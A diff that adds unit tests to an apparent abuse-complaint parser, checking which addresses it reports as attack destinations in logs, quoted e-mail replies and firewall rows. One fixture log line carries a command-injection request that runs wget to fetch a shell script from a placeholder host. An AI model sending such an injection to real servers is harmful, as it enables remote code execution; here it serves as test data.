@@ -249,3 +249,27 @@ def test_a_private_address_beside_is_no_victim() -> None:
 def test_who_attacked_together_is_no_victim(text: str) -> None:
     """Who is named together with the relay has its role."""
     assert destinations(read(text.format(o=OWN, a=ACCUSED, v=VICTIM))) == [f"{VICTIM}:22"]
+
+
+def test_an_address_in_the_parameters_of_a_request_is_no_victim() -> None:
+    """The attacker wrote it: there is what the victim would load."""
+    row = (
+        '{o} - - [16/Nov/2026:05:33:12 +0000] "GET /shell?cd+/tmp;wget+http://{a}/m.sh HTTP/1.1"'
+        ' 404 0 "-" "Hello, World"'
+    )
+    assert destinations(read(f"Attack:\n{row.format(o=OWN, a=ACCUSED)}\n")) == []
+
+
+def test_our_own_answer_names_no_victim() -> None:
+    """What the sender quotes is ours, if it quotes the sender in turn."""
+    answer = f"> {OWN} is a Tor exit. The attack was on {ACCUSED}, port 9131.\n"
+    quoted = "> On Mon, 16 Nov 2026 at 18:55, Ann <ann@victim.example> wrote:\n> > Attack by you.\n"
+    assert destinations(read(f"Please confirm.\n\n{answer}>\n{quoted}")) == []
+    assert destinations(read(f"Please act.\n\n{answer}")) == [f"{ACCUSED}:9131"]
+
+
+def test_who_is_only_beside_a_named_victim_is_none() -> None:
+    """A gateway in the log line is no destination, if a key tells the victim."""
+    gateway = "93.184.216.1"
+    row = f"time=10:00:00 fw={gateway} src={OWN} dst={VICTIM} proto=tcp"
+    assert destinations(read(f"Port scan:\n{row}\n")) == [VICTIM]
